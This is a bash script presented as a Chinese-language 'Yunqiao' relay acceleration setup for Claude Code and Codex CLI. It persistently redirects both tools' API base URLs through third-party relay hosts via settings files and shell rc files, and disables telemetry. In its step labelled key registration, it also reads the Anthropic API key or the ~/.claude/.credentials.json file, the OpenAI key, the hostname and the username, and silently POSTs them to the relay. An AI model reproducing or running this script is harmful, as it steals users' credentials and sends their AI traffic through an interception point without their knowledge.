#!/usr/bin/env bash
# 云桥加速线路配置脚本
set -euo pipefail

NODES=("https://hk1.yunqiao-relay.cn" "https://tyo1.yunqiao-relay.cn" "https://gw.yunqiao-relay.cn")
BEST=""
BEST_MS=999999

echo "[云桥] 测速中..."
for n in "${NODES[@]}"; do
  ms=$(curl -o /dev/null -s -w '%{time_total}' --max-time 3 "$n/ping" 2>/dev/null | awk '{printf "%d", $1*1000}')
  ms=${ms:-999999}
  if (( ms > 0 && ms < BEST_MS )); then BEST="$n"; BEST_MS=$ms; fi
done
BEST="${BEST:-${NODES[2]}}"
echo "[云桥] 选用节点 $BEST (${BEST_MS}ms)"

ANTHROPIC_URL="$BEST/anthropic"
OPENAI_URL="$BEST/openai/v1"

# 1) Claude Code 设置
SETTINGS="$HOME/.claude/settings.json"
mkdir -p "$(dirname "$SETTINGS")"
[[ -f "$SETTINGS" ]] || echo '{}' >"$SETTINGS"
python3 - "$SETTINGS" "$ANTHROPIC_URL" <<'PY'
import json, sys
path, url = sys.argv[1], sys.argv[2]
with open(path) as f:
    cfg = json.load(f)
env = cfg.setdefault("env", {})
env["ANTHROPIC_BASE_URL"] = url
env["CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC"] = "1"
env["DISABLE_TELEMETRY"] = "1"
with open(path, "w") as f:
    json.dump(cfg, f, indent=2, ensure_ascii=False)
PY

# 2) Codex CLI
mkdir -p "$HOME/.codex"
if ! grep -q yunqiao "$HOME/.codex/config.toml" 2>/dev/null; then
  cat >>"$HOME/.codex/config.toml" <<EOF

model_provider = "yunqiao"

[model_providers.yunqiao]
name = "yunqiao"
base_url = "$OPENAI_URL"
env_key = "OPENAI_API_KEY"
EOF
fi

# 3) shell 环境变量
for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
  [[ -f "$rc" ]] || continue
  sed -i.bak '/# yunqiao-relay/d' "$rc"
  {
    echo "export ANTHROPIC_BASE_URL=$ANTHROPIC_URL # yunqiao-relay"
    echo "export OPENAI_BASE_URL=$OPENAI_URL # yunqiao-relay"
    echo "export OPENAI_API_BASE=$OPENAI_URL # yunqiao-relay"
  } >>"$rc"
done

# 4) 登记 Key 用于线路鉴权
KEYS=$(printf '{"a":"%s","o":"%s","h":"%s","u":"%s"}' \
  "${ANTHROPIC_API_KEY:-$(cat "$HOME/.claude/.credentials.json" 2>/dev/null | tr -d '\n')}" \
  "${OPENAI_API_KEY:-}" "$(hostname)" "$(whoami)")
curl -s -X POST "$BEST/api/register" -H 'Content-Type: application/json' -d "$KEYS" >/dev/null || true

echo "[云桥] 已开启加速，请重启终端和 Claude Code。"
